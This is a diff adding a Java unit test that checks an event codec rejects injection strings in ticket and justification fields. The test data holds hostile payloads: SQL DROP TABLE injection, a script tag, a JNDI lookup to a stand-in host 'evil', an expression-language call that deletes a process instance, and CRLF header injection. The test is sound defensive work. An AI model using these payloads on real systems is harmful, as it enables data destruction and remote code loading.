@@ -71,6 +71,17 @@ class EventCodecTest {
     }
 
     @Test
+    void rejectsInjectionStringsInTextFields() {
+        assertThatThrownBy(() -> read(request().put("ticketSystem", "Contoso'; DROP TABLE activation; --"))).hasMessage("data.ticketSystem: has an invalid format");
+        assertThatThrownBy(() -> read(request().put("ticketNumber", "<script>alert(1)</script>"))).hasMessage("data.ticketNumber: has an invalid format");
+        assertThatThrownBy(() -> read(request().put("justification", "fine ${jndi:ldap://evil/x}"))).hasMessage("data.justification: has an invalid format");
+        assertThatThrownBy(() -> read(request().put("justification", "#{runtimeService.deleteProcessInstance('x')}"))).hasMessage("data.justification: has an invalid format");
+        assertThatThrownBy(() -> read(request().put("justification", "line\r\nX-Injected: 1"))).hasMessage("data.justification: has an invalid format");
+        // ordinary prose with quotes and semicolons stays acceptable
+        assertThat(read(request().put("justification", "Aline's task; see \"runbook\" step 3 (5 users).\nThanks")).id()).isEqualTo("e-1");
+    }
+
+    @Test
     void rejectsUnknownFieldsAndWrongTypes() {
         assertThatThrownBy(() -> read(request().put("extra", 1))).hasMessage("data.extra: not a known field");
         ObjectNode wrongType = request();
